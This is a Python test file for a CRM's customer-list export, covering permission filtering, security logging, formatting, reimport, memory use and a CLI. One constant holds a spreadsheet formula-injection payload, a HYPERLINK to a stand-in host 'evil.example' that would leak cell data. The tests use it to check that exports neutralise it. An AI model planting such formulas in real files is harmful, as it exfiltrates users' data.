"""Exporting lists: filters and record rules obeyed, formulas neutralised, memory flat."""

from __future__ import annotations

import csv
import ctypes
import ctypes.util
import datetime as dt
import decimal
import gc
import io
import json
import logging
import resource
import threading
import time
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from addons.crm_customer.models import Customer
from core.context import acting_as, system_context
from core.dataexchange import export_rows, export_stream, run_import
from core.dataexchange.exporting import _cell
from core.fields import FieldInfo
from core.lists import Condition, ListQuery
from core.models import Region
from tests.core.org_fixtures import build_org

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.fixture()
def org(kernel):
    return build_org(kernel)


def exported(kernel, actor, fmt: str, *, model=Customer, conditions=(), columns=None) -> bytes:
    records = kernel.records[model]
    fields = tuple(records.all_fields[name] for name in columns) if columns else None
    query = ListQuery(conditions=tuple(conditions), fields=fields)
    with acting_as(actor), kernel.session() as session:
        return b"".join(export_rows(kernel, session, model, query, fmt))


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_rows(data: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def rename(kernel, customer_id: int, name: str) -> None:
    with system_context(), kernel.sessions.begin() as session:
        session.get(Customer, customer_id).name = name


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_looking_cells_are_neutralised(kernel, org, fmt) -> None:
    rename(kernel, org.customers["nanjing"], FORMULA)
    data = exported(kernel, org.actor(kernel, "mgr"), fmt, columns=["code", "name", "phone"])
    rows = csv_rows(data) if fmt == "csv" else xlsx_rows(data)
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["NANJING"][1] == "'" + FORMULA
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_neutralising_covers_every_dangerous_start() -> None:
    text = FieldInfo("name", "Name", "text", False, None, (), None, None)
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert _cell(text, f"{start}1+1", None) == f"'{start}1+1"
    assert _cell(text, "南京 = 好", None) == "南京 = 好"


def test_a_rep_exports_only_what_she_may_see(kernel, org, caplog) -> None:
    with caplog.at_level(logging.INFO, logger="kehu.security"):
        rows = csv_rows(exported(kernel, org.actor(kernel, "li.na"), "csv"))
    assert sorted(row[0] for row in rows[1:]) == ["NANJING", "SECOND"]
    logged = [json.loads(r.getMessage()) for r in caplog.records if r.name == "kehu.security"]
    assert [(e["event"], e["login"], e["model"], e["rows"]) for e in logged] == [
        ("export", "li.na", "crm_customer", 2)]
    everything = csv_rows(exported(kernel, org.actor(kernel, "gm.hq"), "csv"))
    assert len(everything) == 1 + 5


def test_a_stream_pulled_later_in_another_thread_still_reads_as_the_user(kernel, org) -> None:
    """A web server pulls a streamed body after the handler's context is gone."""
    with acting_as(org.actor(kernel, "li.na")):
        stream = export_stream(kernel, Customer, ListQuery(), "csv")
    pulled: list[bytes] = []
    worker = threading.Thread(target=lambda: pulled.extend(stream))
    worker.start()
    worker.join()
    assert sorted(row[0] for row in csv_rows(b"".join(pulled))[1:]) == ["NANJING", "SECOND"]


def test_the_export_obeys_the_lists_filters_and_shows_names(kernel, org) -> None:
    region = Condition("region_id", "eq", str(_region_id(kernel, "320100")))
    with_names = exported(kernel, org.actor(kernel, "mgr"), "csv", conditions=[region])
    rows = csv_rows(with_names)
    assert rows[0] == [str(f.label) for f in kernel.records[Customer].columns]
    assert sorted(row[0] for row in rows[1:]) == ["NANJING", "SECOND"]
    owner = rows[0].index("Owner")
    assert {row[owner] for row in rows[1:]} == {"li.na", "zhao.min"}
    assert {row[rows[0].index("Region")] for row in rows[1:]} == {"南京市"}


def test_choices_show_labels(kernel, org) -> None:
    rows = csv_rows(exported(kernel, org.actor(kernel, "gm.hq"), "csv", model=Region,
                             conditions=[Condition("code", "in", "320000,320100")],
                             columns=["code", "name", "level"]))
    assert rows[1:] == [["320000", "江苏省", "Province"], ["320100", "南京市", "City"]]


def test_money_dates_and_booleans_are_formatted() -> None:
    def field(kind: str) -> FieldInfo:
        return FieldInfo("x", "X", kind, False, None, (), None, None)

    amount = _cell(field("money"), decimal.Decimal("1234.5"), None)
    assert str(amount) == "1234.50" and isinstance(amount, decimal.Decimal)
    assert _cell(field("bool"), True, None) == "Yes"
    assert _cell(field("date"), dt.date(2026, 11, 24), None) == dt.date(2026, 11, 24)


def test_an_export_reimports_as_it_came_out(kernel, org) -> None:
    rename(kernel, org.customers["nanjing"], FORMULA)
    data = exported(kernel, org.actor(kernel, "mgr"), "xlsx",
                    columns=["name", "code", "phone", "region_id"])
    with system_context(), kernel.sessions.begin() as session:
        session.execute(sa.delete(Customer).where(Customer.code == "NANJING"))
    with acting_as(org.actor(kernel, "mgr")):
        result = run_import(kernel, Customer, data, filename="export.xlsx", valid_only=True)
    assert result.created == 1  # the others' codes exist: reported, not written
    with system_context(), kernel.session() as session:
        again = session.scalar(sa.select(Customer).where(Customer.code == "NANJING"))
    assert again.name == FORMULA and again.region_id == _region_id(kernel, "320100")


def _region_id(kernel, code: str) -> int:
    with system_context(), kernel.session() as session:
        return session.scalar(sa.select(Region.id).where(Region.code == code))


# ----------------------------------------------------------------- memory


def _add_customers(kernel, org, count: int, *, start: int = 0) -> None:
    nanjing = _region_id(kernel, "320100")
    rows = [{"division_id": org.divisions["EAST"], "name": f"导出客户{n:06d}有限公司",
             "code": f"M-{n:06d}", "phone": f"0{n:010d}", "owner_id": org.users["li.na"],
             "region_id": nanjing, "version": 1, "status": "prospect"}
            for n in range(start, start + count)]
    with system_context(), kernel.sessions.begin() as session:
        for start in range(0, count, 10_000):
            session.execute(sa.insert(Customer), rows[start:start + 10_000])


_LIBC = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6")


def _rss() -> int:
    with open("/proc/self/statm") as handle:
        return int(handle.read().split()[1]) * resource.getpagesize()


class PeakRss(threading.Thread):
    """Samples the process's resident memory while the block runs: the growth of its peak."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.running = True
        self.base = self.peak = 0

    def __enter__(self) -> PeakRss:
        gc.collect()
        _LIBC.malloc_trim(0)  # hand freed memory back, so growth cannot hide in it
        self.base = self.peak = _rss()
        self.start()
        return self

    def run(self) -> None:
        while self.running:
            self.peak = max(self.peak, _rss())
            time.sleep(0.002)

    def __exit__(self, *exc: object) -> None:
        self.running = False
        self.join()
        self.peak = max(self.peak, _rss())

    @property
    def growth(self) -> int:
        return self.peak - self.base


def _export_growth(kernel, actor, fmt: str) -> tuple[int, int]:
    """Peak RSS growth (bytes) while streaming an export, and the file's size."""
    size = 0
    with acting_as(actor), kernel.session() as session, PeakRss() as memory:
        for block in export_rows(kernel, session, Customer, ListQuery(), fmt):
            size += len(block)
    return memory.growth, size


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_memory_stays_flat_from_5k_to_50k_rows(kernel, org, fmt, backend) -> None:
    actor = org.actor(kernel, "gm.east")
    _export_growth(kernel, actor, fmt)  # warm caches up: compiled statements, imports
    _add_customers(kernel, org, 5_000, start=0)
    small, small_size = _export_growth(kernel, actor, fmt)
    _add_customers(kernel, org, 45_000, start=5_000)
    large, large_size = _export_growth(kernel, actor, fmt)
    print(f"\n{fmt} export on {backend}: peak RSS growth {small / 1e6:.1f} MB for 5k rows "
          f"({small_size / 1e6:.1f} MB file), {large / 1e6:.1f} MB for 50k rows "
          f"({large_size / 1e6:.1f} MB file)")
    assert large_size > 8 * small_size
    assert large < small + 12_000_000  # 50k rows held in memory would take 50 MB and more
    assert large < 30_000_000


# -------------------------------------------------------------------- CLI


@pytest.mark.sqlite_only  # engine-agnostic: PostgreSQL is covered elsewhere (CI time)
def test_cli_exports_xlsx_and_filtered_csv(kernel, org, cli, tmp_path: Path) -> None:
    target = tmp_path / "customers.xlsx"
    result = cli("export", "crm_customer", "--format", "xlsx", "--output", str(target))
    assert str(target) in result.stderr
    rows = xlsx_rows(target.read_bytes())
    assert len(rows) == 1 + 5 and rows[0][0] == "Code"
    mine = cli("export", "crm_customer", "--as", "li.na")
    assert sorted(row[0] for row in csv_rows(mine.stdout.encode())[1:]) == ["NANJING", "SECOND"]
    filtered = cli("export", "crm_customer", "code=HANGZHOU")
    assert [row[0] for row in csv_rows(filtered.stdout.encode())[1:]] == ["HANGZHOU"]
    wrong = cli("export", "crm_customer", "colour=red", ok=False)
    assert wrong.returncode == 1 and "colour=red" in wrong.stderr
